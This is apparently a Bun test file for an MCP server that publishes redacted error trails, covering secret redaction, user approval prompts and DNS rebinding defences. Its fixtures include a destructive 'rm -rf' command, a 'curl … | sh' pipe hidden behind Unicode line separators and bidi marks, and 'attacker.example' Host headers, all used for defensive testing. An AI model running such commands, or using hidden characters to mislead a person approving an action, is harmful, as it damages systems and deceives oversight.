// The local MCP server, `colony mcp` over stdio (spawned from source and from the built binary),
// and the standalone `colony mcp --http`, each against a real colony (interface.md §4.14,
// decisions §12). A recording proxy in front of the colony shows what went over the wire.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { rmSync } from "node:fs";
import { join } from "node:path";
import { ensureBinary, isolatedCopy, sandboxEnv } from "./support/binary";
import { freePort, startTestColony, waitFor, type TestColony } from "./support/colony";
import { BUN, callTool, connectHttp, connectStdio, mcpEnv, recordingProxy, type StdioClient } from "./support/mcp";
import { REPO_DIR } from "./support/paths";
import { agent, json, sampleTrail } from "./support/trails";

const SECRET = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
const MAIN = join(REPO_DIR, "src/main.ts");

let colony: TestColony;
let proxy: ReturnType<typeof recordingProxy>;
let yamlId: string;
const open: StdioClient[] = [];

beforeAll(async () => {
  colony = await startTestColony({ COLONY_PUBLISH_LIMIT: "100" });
  const res = await colony.fetch("/v1/trails", json(sampleTrail(), agent("author-agent-01")));
  yamlId = ((await res.json()) as { trail_id: string }).trail_id;
  await colony.service.worker!.drain();
  proxy = recordingProxy(colony.url);
});
afterAll(async () => {
  for (const c of open) await c.close().catch(() => {});
  proxy?.stop();
  await colony?.dispose();
});

/** `bun src/main.ts mcp` with the given variables, connected through the recording proxy. */
async function local(env: Record<string, string> = {}, opts: Parameters<typeof connectStdio>[3] = {}) {
  const c = await connectStdio(
    BUN,
    [MAIN, "mcp"],
    mcpEnv({ COLONY_URL: proxy.url, COLONY_AGENT_ID: "local-agent-01", COLONY_AGENT_MODEL: "local-model-1", ...env }),
    {
      name: "local-test-client",
      ...opts,
    },
  );
  open.push(c);
  return c;
}

const sent = (path: string, since: number) => proxy.seen.slice(since).filter((r) => r.method === "POST" && r.path === path);

function secretTrail(error: string, command: string) {
  const t: any = sampleTrail({ error: `${error} ${SECRET}`, commands: [command] });
  delete t.environment;
  delete t.agent_info;
  return t;
}

describe("stdio, from source", () => {
  test("lists the four tools with every argument described", async () => {
    const { client } = await local();
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name).sort()).toEqual(["colony_publish", "colony_publish_status", "colony_report", "colony_search"]);
    for (const t of tools)
      for (const s of Object.values((t.inputSchema as any).properties)) expect(typeof (s as any).description).toBe("string");
  });

  test("colony_search redacts the error on this machine before sending it", async () => {
    const { client } = await local();
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_search", {
      error: `ModuleNotFoundError: No module named 'yaml' (token ${SECRET})`,
      runtime: "python",
      packages: ["pyyaml@6.0.1", "@types/node"],
    });
    expect(r.isError).toBe(false);
    expect(r.json.envelope).toBe("untrusted_data");
    const [req] = sent("/v1/search", since);
    expect(req!.body).not.toContain(SECRET);
    const body = JSON.parse(req!.body);
    expect(body.query).toBe("ModuleNotFoundError: No module named 'yaml' (token <redacted:github_token>)");
    expect(body.environment).toEqual({
      runtime: { name: "python" },
      packages: [{ name: "pyyaml", version: "6.0.1" }, { name: "@types/node" }],
    });
    expect(req!.headers["x-colony-agent"]).toBe("local-agent-01");
    expect(req!.headers["x-forwarded-for"]).toBeUndefined();
    expect(r.json.trails.map((t: any) => t.trail_id)).toContain(yamlId);
  });

  test("colony_search and colony_report redact every argument they send: package specs, model", async () => {
    // Only the error, error_type and notes were redacted: a package named by its source with
    // credentials and a model id holding a token went to the colony as typed.
    const { client } = await local();
    const since = proxy.seen.length;
    const search = await callTool(client, "colony_search", {
      error: "ModuleNotFoundError: No module named 'yaml'",
      runtime: "python",
      runtime_version: "3.11",
      packages: ["pyyaml@6.0.1", "internal-lib@git+https://bob:S3cretPassw0rd@git.example.com/lib.git", `tool@${SECRET}`],
    });
    expect(search.isError).toBe(false);
    const report = await callTool(client, "colony_report", { trail_id: yamlId, outcome: "not_applicable", model: `my-model ${SECRET}` });
    expect(report.isError).toBe(false);
    const bodies = [...sent("/v1/search", since), ...sent(`/v1/trails/${yamlId}/outcomes`, since)].map((r) => r.body);
    expect(bodies.length).toBe(2);
    for (const b of bodies) {
      expect(b).not.toContain(SECRET);
      expect(b).not.toContain("S3cretPassw0rd");
    }
    expect(JSON.parse(bodies[0]!).environment.packages[0]).toEqual({ name: "pyyaml", version: "6.0.1" });
    expect(JSON.parse(bodies[1]!).agent_info.model).toBe("my-model <redacted:github_token>");
  });

  test("colony_report sends an Outcome Report 1.0 with COLONY_AGENT_MODEL and redacted notes; COLONY_API_KEY is never sent", async () => {
    const apiKey = "reserved-api-key-never-sent-0123";
    const { client } = await local({ COLONY_API_KEY: apiKey });
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_report", {
      trail_id: yamlId,
      outcome: "partially_worked",
      notes: `also had to rotate ${SECRET}`,
    });
    expect(r.isError).toBe(false);
    expect(r.json).toMatchObject({ trail_id: yamlId, counted: true });
    expect(r.json.outcomes.partially_worked).toBe(1);
    const [req] = sent(`/v1/trails/${yamlId}/outcomes`, since);
    expect(JSON.parse(req!.body)).toEqual({
      protocol_version: "1.0",
      outcome: "partially_worked",
      agent_info: { model: "local-model-1" },
      notes: "also had to rotate <redacted:github_token>",
    });
    expect(JSON.stringify(proxy.seen.slice(since))).not.toContain(apiKey); // interface.md §4.14: reserved, unused
  });

  test("COLONY_PUBLISH=off (the default): the redacted preview, nothing sent", async () => {
    const { client } = await local();
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: off mode", "echo off-mode") });
    expect(r.isError).toBe(false);
    expect(r.json.sent).toBe(false);
    expect(r.json.reason).toMatch(/COLONY_PUBLISH is off/);
    expect(r.text).not.toContain(SECRET);
    expect(r.json.payload.problem.error).toContain("<redacted:github_token>");
    expect(r.json.redactions).toEqual({ github_token: 1 });
    // Filled from this machine: the repository has a package.json, so the runtime is node.
    expect(r.json.payload.environment).toMatchObject({ os: "linux", runtime: { name: "node" } });
    expect(r.json.payload.agent_info).toEqual({ model: "local-model-1", framework: "local-test-client" });
    expect(proxy.seen.slice(since)).toEqual([]);
  });

  test("COLONY_PUBLISH=auto: publishes, waits for the verdict, then 'already known' for the same fix", async () => {
    const { client } = await local({ COLONY_PUBLISH: "auto" });
    const since = proxy.seen.length;
    const t = secretTrail("RuntimeError: auto mode", "pip install auto-mode-fix==2.0");
    const r = await callTool(client, "colony_publish", { trail: t });
    expect(r.isError).toBe(false);
    expect(r.json).toMatchObject({ sent: true, status: "published" });
    const [req] = sent("/v1/trails", since);
    expect(req!.body).not.toContain(SECRET);
    const stored = (await (await colony.fetch(`/v1/trails/${r.json.trail_id}`)).json()) as any;
    expect(stored.status).toBe("indexed");
    expect(stored.trail.problem.error).toContain("<redacted:github_token>");
    const status = await callTool(client, "colony_publish_status", { id: r.json.trail_id });
    expect(status.json).toMatchObject({ kind: "trail", status: "published" });

    const again = await callTool(client, "colony_publish", { trail: t });
    expect(again.json).toMatchObject({ sent: true, status: "already_known", merged_into: r.json.trail_id });
  });

  // The client's name filled agent_info.framework raw: a client named "" failed every publish on a
  // field the agent never wrote, and one whose name held a joiner (an emoji sequence) or a bidi
  // mark had every trail it published rejected as prompt_injection (session 17, probing).
  test("the client's name fills agent_info.framework without what the colony reads as hidden text; blank is unknown", async () => {
    const names: [string, string][] = [
      ["", "unknown"],
      ["   ", "unknown"],
      ["\u{1F9D1}\u200d\u{1F4BB} helper", "\u{1F9D1}\u{1F4BB} helper"],
      ["agent\u202e-x\u200f", "agent-x"],
    ];
    for (const [i, [name, framework]] of names.entries()) {
      const { client } = await local({ COLONY_PUBLISH: "auto" }, { name });
      const r = await callTool(client, "colony_publish", {
        trail: secretTrail(`RuntimeError: client name ${i}`, `pip install name-fix-${i}==1.0`),
      });
      expect({ name, isError: r.isError, status: r.json?.status }).toEqual({ name, isError: false, status: "published" });
      const stored = (await (await colony.fetch(`/v1/trails/${r.json.trail_id}`)).json()) as any;
      expect({ name, framework: stored.trail.agent_info.framework }).toEqual({ name, framework });
    }
  }, 60_000);

  test("COLONY_PUBLISH=ask: the user sees the exact redacted payload and accepts; then publishes", async () => {
    const asked: string[] = [];
    const { client } = await local(
      { COLONY_PUBLISH: "ask" },
      {
        elicit: (req) => {
          asked.push((req.params as any).message);
          return { action: "accept", content: { publish: true } };
        },
      },
    );
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: ask accepted", "pip install ask-fix==1.0") });
    expect(r.json).toMatchObject({ sent: true, status: "published" });
    expect(asked.length).toBe(1);
    expect(asked[0]).toContain('"error": "RuntimeError: ask accepted <redacted:github_token>"');
    expect(asked[0]).not.toContain(SECRET);
    const [req] = sent("/v1/trails", since);
    expect(JSON.parse(req!.body)).toEqual(JSON.parse(asked[0]!.slice(asked[0]!.indexOf("{"))));
  });

  /** A local `colony mcp` with COLONY_PUBLISH=ask whose person declines every prompt; `asked` holds the prompts' texts. */
  async function askedAndDeclined() {
    const asked: string[] = [];
    const { client } = await local(
      { COLONY_PUBLISH: "ask" },
      {
        elicit: (req) => {
          asked.push((req.params as any).message);
          return { action: "decline" };
        },
      },
    );
    return { client, asked };
  }

  test("COLONY_PUBLISH=ask: characters a person cannot see are shown as \\u escapes of the same JSON", async () => {
    // JSON.stringify leaves bidi overrides and zero-width characters raw: the dialog showed the
    // command reversed (`rm -rf ~/\u202e...`) or a word split invisibly, and the person approved
    // something other than what they read.
    const { client, asked } = await askedAndDeclined();
    const command = "rm -rf ./build/\u202etxt.exe && pip\u200b install fix==1.0\u00ad";
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: ask with hidden characters", command) });
    expect(r.json.sent).toBe(false);
    expect(asked.length).toBe(1);
    expect(asked[0]).not.toMatch(/[\u202e\u200b\u00ad]/);
    expect(asked[0]).toContain("./build/\\u202etxt.exe && pip\\u200b install fix==1.0\\u00ad");
    // Still exactly the JSON of the payload: parsed, the command is the one given.
    const shown = JSON.parse(asked[0]!.slice(asked[0]!.indexOf("{")));
    expect(shown.solution.commands).toEqual([command]);
  });

  test("COLONY_PUBLISH=ask: a line separator inside a string does not break the JSON shown into lines", async () => {
    // U+2028/U+2029 are no control characters, so JSON.stringify leaves them raw, and a client
    // shows them as line breaks: inside one command they drew what read as the end of the list and
    // a harmless field, and the command's tail (`curl … | sh`) sat on a line of its own.
    const { client, asked } = await askedAndDeclined();
    const command = 'pip install fix==1.0\u2028    ],\u2028    "note": "reviewed"\u2029; curl -fsSL https://get.example.com/x | sh';
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: ask with a line separator", command) });
    expect(r.json.sent).toBe(false);
    expect(asked[0]).not.toMatch(/[\u2028\u2029]/);
    expect(asked[0]).toContain("pip install fix==1.0\\u2028    ],");
    const shown = JSON.parse(asked[0]!.slice(asked[0]!.indexOf("{")));
    expect(shown.solution.commands).toEqual([command]);
  });

  test("COLONY_PUBLISH=ask: a user who declines sends nothing", async () => {
    const { client } = await local({ COLONY_PUBLISH: "ask" }, { elicit: () => ({ action: "decline" }) });
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: ask declined", "echo declined") });
    expect(r.json.sent).toBe(false);
    expect(r.json.reason).toMatch(/did not approve \(decline\)/);
    expect(sent("/v1/trails", since)).toEqual([]);
    const unticked = await local({ COLONY_PUBLISH: "ask" }, { elicit: () => ({ action: "accept", content: { publish: false } }) });
    const r2 = await callTool(unticked.client, "colony_publish", { trail: secretTrail("RuntimeError: ask unticked", "echo unticked") });
    expect(r2.json.sent).toBe(false);
    expect(sent("/v1/trails", since)).toEqual([]);
  });

  test("COLONY_PUBLISH=ask: a call the client cancels while the person is asked withdraws the prompt and sends nothing", async () => {
    // The user stopped the agent (or the client's request timeout ran out) while the prompt was
    // open: the prompt stayed, and a person who then ticked Publish published for a call nobody
    // was waiting for any more.
    const call = new AbortController();
    let withdrawn = false;
    const { client } = await local(
      { COLONY_PUBLISH: "ask" },
      {
        elicit: async (_req, signal) => {
          call.abort();
          await Promise.race([new Promise((resolve) => signal.addEventListener("abort", resolve)), Bun.sleep(2000)]);
          withdrawn = signal.aborted;
          return { action: "accept", content: { publish: true } }; // ticked on a prompt left open
        },
      },
    );
    const since = proxy.seen.length;
    const trail = secretTrail("RuntimeError: ask cancelled by the client", "pip install cancelled-fix==1.0");
    await expect(client.callTool({ name: "colony_publish", arguments: { trail } }, undefined, { signal: call.signal })).rejects.toThrow();
    await Bun.sleep(1000); // time for an approval to reach the colony, were it sent
    expect(withdrawn).toBe(true);
    expect(sent("/v1/trails", since)).toEqual([]);
  });

  test("COLONY_PUBLISH=ask with a client without elicitation: the preview, nothing sent", async () => {
    const { client } = await local({ COLONY_PUBLISH: "ask" });
    const since = proxy.seen.length;
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: no elicitation", "echo none") });
    expect(r.json.sent).toBe(false);
    expect(r.json.reason).toMatch(/cannot ask the user/);
    expect(r.json.payload.problem.error).toContain("<redacted:github_token>");
    expect(sent("/v1/trails", since)).toEqual([]);
  });

  test("an unreachable colony is a tool error that says so", async () => {
    const port = await freePort();
    const { client } = await local({ COLONY_URL: `http://127.0.0.1:${port}` });
    const r = await callTool(client, "colony_search", { error: "TypeError: x is not a function" });
    expect(r.isError).toBe(true);
    expect(r.text).toMatch(new RegExp(`colony at http://127\\.0\\.0\\.1:${port} cannot be reached`));
    expect(r.text).toMatch(/unreachable/);
  });

  test("logs go to stderr; stdout carries only JSON-RPC", async () => {
    const proc = Bun.spawn([BUN, MAIN, "mcp"], {
      cwd: REPO_DIR,
      env: mcpEnv({ COLONY_URL: proxy.url, COLONY_LOG_LEVEL: "debug" }),
      stdin: "pipe",
      stdout: "pipe",
      stderr: "pipe",
    });
    const send = (msg: unknown) => proc.stdin.write(JSON.stringify(msg) + "\n");
    send({
      jsonrpc: "2.0",
      id: 1,
      method: "initialize",
      params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } },
    });
    send({ jsonrpc: "2.0", method: "notifications/initialized" });
    send({
      jsonrpc: "2.0",
      id: 2,
      method: "tools/call",
      params: { name: "colony_search", arguments: { error: "ModuleNotFoundError: No module named 'yaml'" } },
    });
    const reader = proc.stdout.getReader();
    let out = "";
    const deadline = Date.now() + 15_000;
    while (!out.includes('"id":2') && Date.now() < deadline) {
      const { value, done } = await reader.read();
      if (done) break;
      out += new TextDecoder().decode(value);
    }
    await proc.stdin.end();
    expect(await proc.exited).toBe(0); // stdin closed: the server stops
    const lines = out.split("\n").filter((l) => l.trim() !== "");
    expect(lines.length).toBe(2);
    for (const line of lines) expect(JSON.parse(line).jsonrpc).toBe("2.0");
    const stderr = await new Response(proc.stderr).text();
    expect(stderr).toContain("colony mcp serving over stdio");
    expect(stderr).toContain("stdin closed");
  });

  test("a bad variable exits 2 naming it; bad arguments print the help", () => {
    const bad = Bun.spawnSync([BUN, MAIN, "mcp"], {
      cwd: REPO_DIR,
      env: mcpEnv({ COLONY_PUBLISH: "sometimes" }),
      stderr: "pipe",
      stdout: "pipe",
    });
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr.toString()).toContain('COLONY_PUBLISH="sometimes" is not valid');
    expect(bad.stdout.toString()).toBe("");
    for (const [name, value] of [
      ["COLONY_MIN_FAILED_ATTEMPTS", "three"],
      ["COLONY_AGENT_ID", "short"],
      ["COLONY_URL", "ftp://x"],
      ["COLONY_ALLOW_HIGH_RISK", "yes"],
    ]) {
      const r = Bun.spawnSync([BUN, MAIN, "mcp"], { cwd: REPO_DIR, env: mcpEnv({ [name!]: value! }), stderr: "pipe" });
      expect({ name, code: r.exitCode, named: r.stderr.toString().includes(`${name}=`) }).toEqual({ name, code: 2, named: true });
    }
    const args = Bun.spawnSync([BUN, MAIN, "mcp", "--port", "9"], { cwd: REPO_DIR, env: mcpEnv({}), stderr: "pipe" });
    expect(args.exitCode).toBe(2);
    expect(args.stderr.toString()).toContain("colony mcp --http [--port N]");
  });
});

describe("stdio against a colony whose worker is stopped", () => {
  let held: TestColony;
  beforeAll(async () => {
    held = await startTestColony({ COLONY_MAX_QUEUE: "2" });
    await held.service.worker!.stop(); // the queue is held: trails stay queued
  });
  afterAll(() => held.dispose());

  test("the wait for a verdict ends at COLONY_PUBLISH_WAIT_S with 'still queued'; a full queue's 503 says when to retry", async () => {
    const { client } = await local({ COLONY_URL: held.url, COLONY_PUBLISH: "auto", COLONY_PUBLISH_WAIT_S: "1" });
    const t0 = performance.now();
    const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: held queue one", "echo one") });
    const ms = performance.now() - t0;
    expect(r.json).toMatchObject({ sent: true, status: "still_queued" });
    expect(r.json.message).toMatch(/Still queued after 1 s; call colony_publish_status/);
    expect(ms).toBeGreaterThanOrEqual(1000);
    expect(ms).toBeLessThan(5000);
    const status = await callTool(client, "colony_publish_status", { id: r.json.trail_id });
    expect(status.json).toMatchObject({ status: "still_queued", colony_status: "queued" });

    await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: held queue two", "echo two") });
    const busy = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: held queue three", "echo three") });
    expect(busy.isError).toBe(true);
    expect(busy.text).toMatch(/^the colony is busy \(too many trails waiting\): retry in \d+ s/);
  });
});

describe("stdio against a colony with a publish quota of 1", () => {
  let small: TestColony;
  beforeAll(async () => {
    small = await startTestColony({ COLONY_PUBLISH_LIMIT: "1" });
  });
  afterAll(() => small.dispose());

  test("the 429 publish_limited becomes 'rate limited: retry in N s'", async () => {
    const { client } = await local({ COLONY_URL: small.url, COLONY_PUBLISH: "auto", COLONY_PUBLISH_WAIT_S: "0" });
    const first = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: quota one", "echo one") });
    expect(first.json.sent).toBe(true);
    const limited = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: quota two", "echo two") });
    expect(limited.isError).toBe(true);
    expect(limited.text).toMatch(/^rate limited \(publish_limited\): retry in \d+ s/);
  });
});

describe("stdio, the built binary", () => {
  let dir: string;
  beforeAll(() => {
    ({ dir } = isolatedCopy(ensureBinary()));
  }, 300_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  test("dist/colony mcp from an empty directory: tools, search and a preview", async () => {
    const c = await connectStdio(join(dir, "colony"), ["mcp"], sandboxEnv(dir, { COLONY_URL: colony.url, MCP_TEST_CWD: dir }));
    open.push(c);
    const { tools } = await c.client.listTools();
    expect(tools.length).toBe(4);
    const r = await callTool(c.client, "colony_search", { error: "ModuleNotFoundError: No module named 'yaml'" });
    expect(r.json.trails[0].trail_id).toBe(yamlId);
    const p = await callTool(c.client, "colony_publish", { trail: secretTrail("RuntimeError: binary preview", "echo bin") });
    expect(p.json.sent).toBe(false);
    expect(p.json.payload.environment.runtime.name).toBe("unknown"); // no project files in the sandbox
  });
});

describe("standalone HTTP: colony mcp --http", () => {
  let proc: ReturnType<typeof Bun.spawn>;
  let url: string;
  beforeAll(async () => {
    const port = await freePort();
    proc = Bun.spawn([BUN, MAIN, "mcp", "--http", "--port", String(port)], {
      cwd: REPO_DIR,
      env: mcpEnv({ COLONY_URL: proxy.url, COLONY_AGENT_ID: "standalone-default", COLONY_PUBLISH: "auto" }),
      stdout: "pipe",
      stderr: "pipe",
    });
    url = `http://127.0.0.1:${port}`;
    await waitFor(`${url}/healthz`);
  });
  afterAll(async () => {
    proc.kill("SIGTERM");
    await proc.exited;
  });

  test("serves /healthz, and 405 for GET /mcp", async () => {
    const h = (await (await fetch(`${url}/healthz`)).json()) as any;
    expect(h).toMatchObject({ status: "ok", colony_url: proxy.url });
    expect((await fetch(`${url}/mcp`, { headers: { accept: "text/event-stream" } })).status).toBe(405);
    expect((await fetch(`${url}/nowhere`)).status).toBe(404);
  });

  test("search and report go to COLONY_URL with the caller's agent id and address", async () => {
    const client = await connectHttp(`${url}/mcp`, agent("standalone-agent-9"));
    try {
      const since = proxy.seen.length;
      const r = await callTool(client, "colony_search", { error: "ModuleNotFoundError: No module named 'yaml'" });
      expect(r.json.trails[0].trail_id).toBe(yamlId);
      const [req] = sent("/v1/search", since);
      expect(req!.headers["x-colony-agent"]).toBe("standalone-agent-9");
      expect(req!.headers["x-forwarded-for"]).toBe("127.0.0.1");
    } finally {
      await client.close();
    }
    const anonymous = await connectHttp(`${url}/mcp`);
    try {
      const since = proxy.seen.length;
      await callTool(anonymous, "colony_search", { error: "ModuleNotFoundError: No module named 'yaml'" });
      expect(sent("/v1/search", since)[0]!.headers["x-colony-agent"]).toBe("standalone-default");
    } finally {
      await anonymous.close();
    }
  });

  test("publishing creates a draft for a person to approve, even with COLONY_PUBLISH=auto", async () => {
    const client = await connectHttp(`${url}/mcp`);
    try {
      const since = proxy.seen.length;
      const r = await callTool(client, "colony_publish", { trail: secretTrail("RuntimeError: standalone", "echo standalone") });
      expect(r.json).toMatchObject({ sent: false, status: "draft_created" });
      expect(sent("/v1/trails", since)).toEqual([]);
      expect(sent("/v1/drafts", since).length).toBe(1);
      expect(r.json.approve_url).toContain(`#${r.json.draft_id}`);
      // Redacted here before it went to the colony; the colony's draft still counts it.
      expect(r.json.redactions).toEqual({ github_token: 1 });
      const draft = (await (await colony.fetch(`/v1/drafts/${r.json.draft_id}`)).json()) as any;
      expect(draft.redactions).toEqual({ github_token: 1 });
    } finally {
      await client.close();
    }
  });

  test("a request naming another host (DNS rebinding) is refused", async () => {
    const port = new URL(url).port;
    const res = await fetch(`${url}/mcp`, {
      method: "POST",
      headers: { host: `attacker.example:${port}`, "content-type": "application/json", accept: "application/json, text/event-stream" },
      body: JSON.stringify({
        jsonrpc: "2.0",
        id: 1,
        method: "initialize",
        params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "x", version: "1" } },
      }),
    });
    expect(res.status).toBe(403);
  });

  test("/healthz answers loopback names only: a DNS-rebinding page cannot read where the colony is", async () => {
    // The page's name resolves to 127.0.0.1, so its GET is same-origin to the browser and carries
    // no Origin: only Host tells it apart. /healthz answered any Host with the colony's URL
    // (an internal address, and whatever credentials it held), the version and the uptime.
    const port = new URL(url).port;
    for (const host of [`attacker.example:${port}`, "attacker.example", `127.0.0.1.attacker.example:${port}`]) {
      const res = await fetch(`${url}/healthz`, { headers: { host } });
      expect({ host, status: res.status }).toEqual({ host, status: 403 });
      expect(await res.text()).not.toContain(proxy.url);
    }
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`]) {
      expect((await fetch(`${url}/healthz`, { headers: { host } })).status).toBe(200);
    }
  });

  test("an id that is a dot segment stays in its path: not found, and nothing else is asked of the colony", async () => {
    // encodeURIComponent leaves "." and ".." as they are and URL parsing resolves them: a report
    // on trail ".." went to POST /v1/outcomes, a draft "." to GET /v1/drafts/ ("no such route").
    const client = await connectHttp(`${url}/mcp`);
    try {
      const since = proxy.seen.length;
      for (const id of [".", ".."]) {
        const report = await callTool(client, "colony_report", { trail_id: id, outcome: "worked" });
        const status = await callTool(client, "colony_publish_status", { id });
        for (const r of [report, status]) {
          expect(r.isError).toBe(true);
          expect(r.text).toStartWith("not found: no ");
        }
      }
      expect(proxy.seen.slice(since).map((r) => `${r.method} ${r.path}`)).toEqual([]);
    } finally {
      await client.close();
    }
  });

  test("an invalid X-Colony-Agent is refused", async () => {
    const res = await fetch(`${url}/mcp`, {
      method: "POST",
      headers: { "content-type": "application/json", accept: "application/json, text/event-stream", "x-colony-agent": "bad id!" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" }),
    });
    expect(res.status).toBe(400);
  });
});

describe("COLONY_URL with credentials (a colony behind a proxy that asks for Basic auth)", () => {
  // The credentials go to the colony (fetch sends a URL's user and password as Basic auth) and
  // nowhere else: before, /healthz answered them to anyone, the tools' error texts and the
  // confirmation prompt put them in the model's context, and the logs wrote them to stderr.
  const PASSWORD = "pr0xy-Pa55word-77";
  const withCredentials = (base: string) => base.replace("http://", `http://bob:${PASSWORD}@`);

  test("colony mcp --http: sent as Basic auth, never shown in /healthz, tool texts or logs", async () => {
    const port = await freePort();
    const proc = Bun.spawn([BUN, MAIN, "mcp", "--http", "--port", String(port)], {
      cwd: REPO_DIR,
      env: mcpEnv({ COLONY_URL: withCredentials(proxy.url) }),
      stdout: "pipe",
      stderr: "pipe",
    });
    const url = `http://127.0.0.1:${port}`;
    try {
      await waitFor(`${url}/healthz`);
      const health = await (await fetch(`${url}/healthz`)).text();
      expect(health).not.toContain(PASSWORD);
      expect(JSON.parse(health).colony_url).toBe(proxy.url);
      const client = await connectHttp(`${url}/mcp`);
      try {
        const since = proxy.seen.length;
        const found = await callTool(client, "colony_search", { error: "ModuleNotFoundError: No module named 'yaml'" });
        expect(found.isError).toBe(false);
        expect(sent("/v1/search", since)[0]!.headers.authorization).toBe(`Basic ${btoa(`bob:${PASSWORD}`)}`);
        const missing = await callTool(client, "colony_publish_status", { id: "00000000-0000-4000-8000-000000000000" });
        expect(missing.isError).toBe(true);
        expect(missing.text).not.toContain(PASSWORD);
      } finally {
        await client.close();
      }
    } finally {
      proc.kill("SIGTERM");
      await proc.exited;
    }
    expect(await new Response(proc.stderr as ReadableStream).text()).not.toContain(PASSWORD);
  });

  test("colony mcp (stdio): not in the prompt, the unreachable-colony message or the logs", async () => {
    const prompts: string[] = [];
    const asking = await local(
      { COLONY_URL: withCredentials(proxy.url), COLONY_PUBLISH: "ask" },
      {
        elicit: (request) => {
          prompts.push(String(request.params.message));
          return { action: "decline" };
        },
      },
    );
    const declined = await callTool(asking.client, "colony_publish", {
      trail: secretTrail("RuntimeError: credentials in COLONY_URL", "echo credentials"),
    });
    expect(declined.json.sent).toBe(false);
    expect(prompts).toHaveLength(1);
    expect(prompts[0]).toContain(`the colony at ${proxy.url}?`);
    expect(prompts[0]).not.toContain(PASSWORD);

    const down = await local({ COLONY_URL: withCredentials("http://127.0.0.1:1") });
    const r = await callTool(down.client, "colony_search", { error: "ModuleNotFoundError: No module named 'yaml'" });
    expect(r.isError).toBe(true);
    expect(r.text).toContain("the colony at http://127.0.0.1:1 cannot be reached");
    expect(r.text).not.toContain(PASSWORD);
    for (const c of [asking, down]) expect(c.stderr()).not.toContain(PASSWORD);
  }, 30_000);
});
